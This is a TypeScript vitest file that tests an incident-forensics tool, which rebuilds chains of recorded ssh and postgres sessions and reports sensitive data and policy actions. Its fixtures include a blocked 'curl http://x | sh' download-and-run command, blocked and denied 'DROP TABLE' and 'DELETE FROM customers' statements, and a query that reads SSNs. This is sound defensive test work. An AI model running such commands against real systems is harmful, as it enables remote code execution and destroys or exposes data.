import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TempDir } from '../../common/recording/testing/recordings.js';
import { importPaths } from '../import/paths.js';
import { openCase, type CaseFile } from '../store/case.js';
import { writeScenario, type Scenario } from '../testing/scenario.js';
import { buildChain } from './graph.js';
import { answersOf, chainDot, chainJson, chainMermaid, chainText } from './render.js';

let tmp: TempDir;
let c: CaseFile;
let sc: Scenario;

beforeAll(async () => {
  tmp = new TempDir();
  sc = writeScenario(tmp.path);
  c = openCase(join(tmp.path, 'case.db'));
  await importPaths(c, [tmp.path], { trusted: sc.trusted });
});
afterAll(() => {
  c.close();
  tmp.remove();
});

describe('chain', () => {
  it('builds the forest from the root identity, with link kinds, evidence and per-hop counts', () => {
    const chain = buildChain(c);
    expect(chain.roots.map((r) => [r.identity, r.sessions.map((s) => s.id)])).toEqual([['contractor-ci', [sc.ids.root]]]);
    const root = chain.roots[0]!.sessions[0]!;
    expect(root.children.map((h) => [h.id, h.link?.kind, h.link?.inferred])).toEqual([[sc.ids.pg, 'hop-token', false], [sc.ids.ssh2, 'address-time', true]]);
    const [pg, ssh2] = root.children;
    expect(pg!.counts).toEqual({ statements: 3, commands: 0, errors: 0, blocked: 1, held: 1, approved: 0, denied: 1, maskedValues: 2, unmaskedSensitive: 2 });
    expect(ssh2!.counts).toMatchObject({ commands: 3, blocked: 1, held: 1, approved: 1, maskedValues: 1 });
    expect(ssh2!.link!.evidence).toEqual({ clientAddress: '10.0.0.9', parentTarget: 'build-host', parentLive: true });
    expect(root.commands.map((x) => x.text)).toEqual(['ls -la', 'psql -c "select email, ssn from customers"', 'ssh jump-host uname -a']);
    expect(chain.edges).toContainEqual({ from: 'identity:contractor-ci', to: sc.ids.root, kind: 'triggered', inferred: false });
    expect(chain.edges).toContainEqual({ from: sc.ids.root, to: sc.ids.ssh2, kind: 'address-time', inferred: true, evidence: ssh2!.link!.evidence });
    expect(chain.edges).toContainEqual({ from: sc.ids.pg, to: 'target:prod-db', kind: 'connects', inferred: false });
  });

  it('answers the incident questions', () => {
    const a = answersOf(buildChain(c));
    expect(a.triggeredBy).toEqual([{ identity: 'contractor-ci', rootSessions: [sc.ids.root], hops: 3, maxDepth: 1 }]);
    expect(a.sensitive).toEqual([
      { session: sc.ids.pg, identity: 'contractor-ci', target: 'prod-db', field: 'email', rule: 'email', masked: true, count: 2 },
      { session: sc.ids.pg, identity: 'contractor-ci', target: 'prod-db', field: 'ssn', rule: 'looks-sensitive:value', masked: false, count: 2 },
      { session: sc.ids.ssh2, identity: 'contractor-ci', target: 'jump-host', field: 'stdout', rule: 'api-key', masked: true, count: 1 },
    ]);
    expect(a.policy.map((p) => [p.session, p.action, p.rule, p.approvalId, p.actor, p.statement])).toEqual([
      [sc.ids.root, 'revoked', null, null, null, null],
      [sc.ids.pg, 'block', 'no-drop', null, null, 'DROP TABLE customers'],
      [sc.ids.pg, 'review', 'unbounded-write', 'apr-1', null, 'DELETE FROM customers'],
      [sc.ids.pg, 'denied', null, 'apr-1', 'alice', 'DELETE FROM customers'],
      [sc.ids.ssh2, 'block', 'no-pipe-to-shell', null, null, 'curl http://x | sh'],
      [sc.ids.ssh2, 'review', 'restarts', null, null, null],
      [sc.ids.ssh2, 'approved', 'restarts', 'apr-2', 'alice', null],
    ]);
    expect(a.integrity.every((i) => i.integrity === 'intact' && i.sealed)).toBe(true);
    const json = JSON.parse(chainJson(buildChain(c))) as { answers: unknown; roots: unknown[] };
    expect(json.answers).toEqual(a);
  });

  it('renders text, dot and mermaid', () => {
    const chain = buildChain(c);
    const text = chainText(chain).split('\n');
    expect(text[0]).toBe('identity contractor-ci');
    expect(text[1]).toMatch(new RegExp(`^└─ ${sc.ids.root}  ssh contractor-ci → build-host  2025-10-09 08:53:20\\.001000–08:53:20\\.013000  intact$`));
    expect(text).toContain(`   ├─ [hop-token] ${sc.ids.pg}  postgres contractor-ci → prod-db  2025-10-09 08:53:25.001000–08:53:25.010000  intact`);
    expect(text).toContain('   │     3 statements, 0 commands, 1 blocked, 1 held, 1 denied, 2 masked values, 2 UNMASKED sensitive values');
    expect(text).toContain(`   └─ [address-time, inferred] ${sc.ids.ssh2}  ssh contractor-ci → jump-host  2025-10-09 08:53:40.001000–08:53:40.010000  intact`);
    const dot = chainDot(chain);
    expect(dot).toMatch(/^digraph hopscope \{/);
    expect(dot).toContain(`"${sc.ids.root}" -> "${sc.ids.ssh2}" [label="address-time", style=dashed];`);
    expect(dot).toContain(`"${sc.ids.root}" -> "${sc.ids.pg}" [label="hop-token"];`);
    // No raw newline inside a quoted label: every line has balanced quotes.
    for (const line of dot.split('\n')) expect((line.replace(/\\"/g, '').match(/"/g) ?? []).length % 2).toBe(0);
    const mermaid = chainMermaid(chain).split('\n');
    expect(mermaid[0]).toBe('flowchart LR');
    expect(mermaid).toContain('  n0 -.->|address-time| n2');
    expect(mermaid).toContain('  n0 -->|hop-token| n1');
    expect(mermaid[1]).toContain('<br/>contractor-ci → build-host<br/>');
  });

  it('restricts to the tree of one session, and refuses an unknown one', () => {
    const chain = buildChain(c, { session: sc.ids.pg });
    expect(chain.roots[0]!.sessions.map((s) => s.id)).toEqual([sc.ids.root]);
    expect(() => buildChain(c, { session: 'nope' })).toThrow(/no session nope in the case file/);
  });
});
